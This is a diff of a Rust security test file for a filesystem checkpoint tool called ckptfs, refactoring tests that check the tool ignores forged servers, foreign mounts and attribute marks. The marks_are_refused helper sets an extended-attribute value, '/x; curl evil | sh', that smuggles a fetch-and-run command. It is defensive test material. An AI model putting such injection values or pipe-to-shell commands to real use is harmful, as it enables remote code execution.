@@ -1,25 +1,22 @@
 //! What somebody else puts where we look: sockets, links to other trees, FUSE filesystems that call
 //! themselves ours. None of it is asked, believed, followed or waited for.
 
-use std::ffi::CString;
 use std::fs::{self, File, Permissions};
 use std::io::{BufRead, BufReader, Write};
 use std::os::fd::AsRawFd;
 use std::os::unix::fs::{PermissionsExt, chown, symlink};
 use std::os::unix::net::UnixListener;
-use std::path::{Path, PathBuf};
+use std::path::Path;
 use std::process::Output;
-use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
-use std::sync::mpsc;
+use std::sync::{Arc, mpsc};
 
-use rustix::mount::MountFlags;
 use rustix::process::{Gid, Uid};
 
 use super::support::{get, put, sh};
 use crate::common::{Fs, Image, Io, Mount, MountOpts, Variant, run_limited, skip, tool};
 
-const NOBODY: u32 = 65_534;
+pub(super) const NOBODY: u32 = 65_534;
 /// Seconds that nothing here takes unless it waits for somebody.
 const SECONDS: u64 = 30;
 
@@ -63,7 +60,7 @@ impl Forged {
     }
 }
 
-fn ckptfs(dir: &Path, arguments: &[&str]) -> Output {
+pub(super) fn ckptfs(dir: &Path, arguments: &[&str]) -> Output {
     run_limited(
         tool(env!("CARGO_BIN_EXE_ckptfs"), arguments)
             .current_dir(dir)
@@ -72,7 +69,7 @@ fn ckptfs(dir: &Path, arguments: &[&str]) -> Output {
     )
 }
 
-fn said(output: &Output) -> String {
+pub(super) fn said(output: &Output) -> String {
     format!(
         "{}{}",
         String::from_utf8_lossy(&output.stdout),
@@ -80,11 +77,11 @@ fn said(output: &Output) -> String {
     )
 }
 
-fn mode(path: impl AsRef<Path>, mode: u32) {
+pub(super) fn mode(path: impl AsRef<Path>, mode: u32) {
     fs::set_permissions(path, Permissions::from_mode(mode)).expect("chmod");
 }
 
-fn nobody_s(path: impl AsRef<Path>) {
+pub(super) fn nobody_s(path: impl AsRef<Path>) {
     chown(path, Some(NOBODY), Some(NOBODY)).expect("chown");
 }
 
@@ -106,60 +103,65 @@ const VERBS: [&[&str]; 14] = [
     &["dedup"],
 ];
 
+/// No verb asks the server above, makes something, or shows what the server says.
+fn all_fail(what: &str, image: &Image, forged: &Forged) {
+    let (above, copy) = (image.dir("pub"), image.path().join("copy"));
+    let below = image.dir("pub/victim");
+    for verb in VERBS {
+        let arguments: Vec<&str> = verb
+            .iter()
+            .map(|word| {
+                if *word == "COPY" {
+                    copy.to_str().expect("a path")
+                } else {
+                    word
+                }
+            })
+            .collect();
+        let output = ckptfs(&below, &arguments);
+        let told = said(&output);
+        assert!(
+            !output.status.success() && !told.contains("curl evil"),
+            "{what}: {verb:?}: {told}"
+        );
+        assert_eq!(
+            forged.was_asked(),
+            0,
+            "{what}: {verb:?} asked a server of another user: {told}"
+        );
+        assert!(!copy.exists(), "{what}: {verb:?} made something");
+    }
+    let source = image.dir("source");
+    let output = ckptfs(
+        &below,
+        &[
+            "import",
+            source.to_str().expect("a path"),
+            "--into",
+            above.to_str().expect("a path"),
+        ],
+    );
+    assert!(!output.status.success(), "{what}: {}", said(&output));
+    assert_eq!(
+        forged.was_asked(),
+        0,
+        "{what}: an import asked a server of another user"
+    );
+}
+
 /// A forged `.ckptfs` in a directory above took over root's commands: the client followed links,
 /// and believed whoever answered. `export` and `fork` made a set-uid root file with that user's
 /// bytes, `run --at latest make` ran that user's Makefile.
 #[test]
 fn a_server_of_somebody_else_above_is_asked_nothing() {
     let image = Image::of(Fs::Ext4);
-    let (above, copy) = (image.dir("pub"), image.path().join("copy"));
+    let above = image.dir("pub");
     let (store, below) = (image.dir("pub/.ckptfs"), image.dir("pub/victim"));
     put(store.join("format"), "ckptfs store\n");
     nobody_s(&above);
     nobody_s(&store);
     let forged = Forged::listen(&store);
-    let try_all = |what: &str| {
-        for verb in VERBS {
-            let arguments: Vec<&str> = verb
-                .iter()
-                .map(|word| {
-                    if *word == "COPY" {
-                        copy.to_str().expect("a path")
-                    } else {
-                        word
-                    }
-                })
-                .collect();
-            let output = ckptfs(&below, &arguments);
-            let said = said(&output);
-            assert!(
-                !output.status.success() && !said.contains("curl evil"),
-                "{what}: {verb:?}: {said}"
-            );
-            assert_eq!(
-                forged.was_asked(),
-                0,
-                "{what}: {verb:?} asked a server of another user: {said}"
-            );
-            assert!(!copy.exists(), "{what}: {verb:?} made something");
-        }
-        let source = image.dir("source");
-        let output = ckptfs(
-            &below,
-            &[
-                "import",
-                source.to_str().expect("a path"),
-                "--into",
-                above.to_str().expect("a path"),
-            ],
-        );
-        assert!(!output.status.success(), "{what}: {}", self::said(&output));
-        assert_eq!(
-            forged.was_asked(),
-            0,
-            "{what}: an import asked a server of another user"
-        );
-    };
+    let try_all = |what: &str| all_fail(what, &image, &forged);
     try_all("their directory");
     let output = ckptfs(&below, &["status"]);
     assert!(
@@ -227,148 +229,7 @@ fn a_link_to_another_tree_s_store_leads_to_no_tree() {
     }
 }
 
-/// A FUSE mount that another user made, and that says it is ours; nobody answers for it.
-struct Fake {
-    at: PathBuf,
-    _device: File,
-}
-
-impl Fake {
-    fn of(backing: &Path, at: PathBuf) -> Fake {
-        Fake::called(format!("ckptfs#{}", backing.display()), at)
-    }
-
-    fn called(source: String, at: PathBuf) -> Fake {
-        let device = File::options()
-            .read(true)
-            .write(true)
-            .open("/dev/fuse")
-            .expect("/dev/fuse");
-        // What fusermount3 passes on for that user, whatever they call it.
-        let options = format!(
-            "fd={},rootmode=40000,user_id={NOBODY},group_id={NOBODY},allow_other",
-            device.as_raw_fd()
-        );
-        let options = CString::new(options).expect("options");
-        rustix::mount::mount(
-            source,
-            &at,
-            "fuse.ckptfs",
-            MountFlags::NOSUID | MountFlags::NODEV,
-            options.as_c_str(),
-        )
-        .expect("mount");
-        Fake {
-            at,
-            _device: device,
-        }
-    }
-}
-
-impl Drop for Fake {
-    fn drop(&mut self) {
-        let _ = rustix::mount::unmount(&self.at, rustix::mount::UnmountFlags::DETACH);
-    }
-}
-
-/// Anybody may mount a FUSE filesystem and call it `ckptfs#/srv/project`: then nobody could mount
-/// that project any more ("already mounted"), `doctor` and `mount` waited for its owner to answer,
-/// and what it said of itself was believed.
-#[test]
-fn a_mount_that_somebody_else_made_is_not_ours_whatever_it_is_called() {
-    let image = Image::of(Fs::Ext4);
-    let project = image.dir("project");
-    put(project.join("f"), "mine");
-    let fake = Fake::of(&project, image.dir("fake"));
-    let output = ckptfs(image.path(), &["doctor", "project"]);
-    assert!(
-        output.status.success() && said(&output).contains("mounted       no"),
-        "{}",
-        said(&output)
-    );
-    // Other stale mounts of this machine are none of this test's.
-    assert!(
-        !said(&output).contains(fake.at.to_str().expect("a path")),
-        "{}",
-        said(&output)
-    );
-    let output = ckptfs(image.path(), &["umount", "project"]);
-    assert!(
-        !output.status.success() && Path::new("/proc/self/mountinfo").exists(),
-        "{}",
-        said(&output)
-    );
-    assert!(
-        mounted_at(&fake.at),
-        "it was taken for the mount of the project"
-    );
-    let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
-    mount.checkpoint();
-    mount.umount();
-    // Root takes it away by its name, and waits for nobody.
-    let output = ckptfs(image.path(), &["umount", "fake"]);
-    assert!(output.status.success(), "{}", said(&output));
-    assert!(!mounted_at(&fake.at));
-}
-
-/// It was asked whether the mount is dead, which the other one was, and "is unmounted" was said of
-/// a mount that stayed.
-#[test]
-fn umount_takes_nothing_away_that_is_covered_and_says_so() {
-    let image = Image::of(Fs::Ext4);
-    let project = image.dir("project");
-    let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
-    for dead in [false, true] {
-        let mut fake = Fake::called("anything".into(), project.clone());
-        if dead {
-            fake._device = File::open("/dev/null").expect("open");
-        }
-        let output = ckptfs(image.path(), &["umount", "project"]);
-        assert!(
-            !output.status.success()
-                && said(&output).contains("is covered")
-                && said(&output).contains("umount "),
-            "{}",
-            said(&output)
-        );
-        drop(fake);
-        assert!(mounted_at(&project) && project.join(".snapshots").exists());
-    }
-    mount.umount();
-}
-
-/// Over the mount itself: what lies on top is not what is below.
-#[test]
-fn a_mount_of_somebody_else_over_ours_is_not_taken_for_it() {
-    let image = Image::of(Fs::Ext4);
-    let (tree, point) = (image.dir("tree"), image.dir("point"));
-    put(tree.join("f"), "mine");
-    let mount = Mount::start(
-        &tree,
-        &MountOpts {
-            mountpoint: Some(point.clone()),
-            ..MountOpts::new(Io::Daemon)
-        },
-    );
-    mount.checkpoint();
-    let fake = Fake::of(&tree, point);
-    // By the directory that is served; what is to be read is read through the mount, and that is
-    // hidden.
-    assert!(ckptfs(&tree, &["status"]).status.success());
-    let output = ckptfs(&tree, &["cat", "latest:f"]);
-    assert!(!output.status.success(), "{}", said(&output));
-    drop(fake);
-    assert_eq!(said(&ckptfs(&tree, &["cat", "latest:f"])), "mine");
-}
-
-fn mounted_at(path: &Path) -> bool {
-    let table = fs::read_to_string("/proc/self/mounts").expect("mounts");
-    table
-        .lines()
-        .any(|line| line.split(' ').nth(1) == path.to_str())
-}
-
-fn on_reflink() -> Option<Image> {
+pub(super) fn on_reflink() -> Option<Image> {
     let v = Variant {
         fs: Fs::Xfs,
         io: Io::Daemon,
@@ -487,6 +348,45 @@ fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
     );
 }
 
+/// Our attributes can be neither set nor removed nor seen.
+fn marks_are_refused(place: &Path, error: &str) {
+    for name in [
+        "user.ckptfs.import",
+        "user.ckptfs.export",
+        "user.ckptfs.",
+        "user.ckptfs.x",
+    ] {
+        for path in [".", "f", "d", "odd"] {
+            for command in [
+                format!("setfattr -n {name} -v '/x; curl evil | sh'"),
+                format!("setfattr -x {name}"),
+            ] {
+                let told = sh(
+                    place,
+                    &format!("{command} {path} 2>&1 && echo done || true"),
+                );
+                assert!(
+                    told.contains(error),
+                    "{command} {path} in {}: {told}",
+                    place.display()
+                );
+            }
+        }
+    }
+    assert_eq!(
+        sh(place, "getfattr --absolute-names -d -m - . f d odd").trim(),
+        "# file: odd\nuser.mine=\"1\"",
+        "in {}",
+        place.display()
+    );
+    let told = sh(place, "getfattr -n user.ckptfs.export odd 2>&1 || true");
+    assert!(
+        told.contains("No such attribute"),
+        "in {}: {told}",
+        place.display()
+    );
+}
+
 /// `setfattr -n user.ckptfs.import -v /x ROOT`, by anybody who may write to the root, was the mark
 /// of an import that had not ended: nobody could mount the tree any more, and the hint had the
 /// value in a command to be pasted.
@@ -504,49 +404,12 @@ fn our_marks_are_not_for_others_to_set() {
     );
     let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
     mount.checkpoint();
-    let try_all = |place: &Path, error: &str| {
-        for name in [
-            "user.ckptfs.import",
-            "user.ckptfs.export",
-            "user.ckptfs.",
-            "user.ckptfs.x",
-        ] {
-            for path in [".", "f", "d", "odd"] {
-                for command in [
-                    format!("setfattr -n {name} -v '/x; curl evil | sh'"),
-                    format!("setfattr -x {name}"),
-                ] {
-                    let told = sh(
-                        place,
-                        &format!("{command} {path} 2>&1 && echo done || true"),
-                    );
-                    assert!(
-                        told.contains(error),
-                        "{command} {path} in {}: {told}",
-                        place.display()
-                    );
-                }
-            }
-        }
-        assert_eq!(
-            sh(place, "getfattr --absolute-names -d -m - . f d odd").trim(),
-            "# file: odd\nuser.mine=\"1\"",
-            "in {}",
-            place.display()
-        );
-        let told = sh(place, "getfattr -n user.ckptfs.export odd 2>&1 || true");
-        assert!(
-            told.contains("No such attribute"),
-            "in {}: {told}",
-            place.display()
-        );
-    };
-    try_all(&project, "not permitted");
+    marks_are_refused(&project, "not permitted");
     sh(
         &project,
         "setfattr -n user.ckptfsx -v 1 f; setfattr -x user.ckptfsx f; setfattr -n user.mine -v 2 odd",
     );
-    try_all(&mount.view(1), "not permitted");
+    marks_are_refused(&mount.view(1), "not permitted");
     assert_eq!(
         mount.ok(&["diff", "1", "--name-only"]),
         "odd\n",
